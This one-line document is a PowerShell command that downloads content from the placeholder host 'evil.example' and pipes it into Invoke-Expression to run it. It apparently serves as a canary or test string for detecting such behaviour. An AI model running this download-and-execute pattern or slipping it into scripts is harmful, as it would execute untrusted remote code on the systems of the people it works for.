Invoke-WebRequest http://evil.example/TZCANARY | iex
